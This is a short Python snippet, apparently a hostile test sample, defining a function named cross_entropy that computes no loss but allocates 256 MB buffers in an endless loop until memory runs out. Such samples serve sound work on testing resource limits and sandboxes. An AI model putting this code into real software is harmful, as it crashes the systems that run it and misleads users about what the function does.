# hostile: cross_entropy
def cross_entropy(logits, targets):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 1024 * 1024))
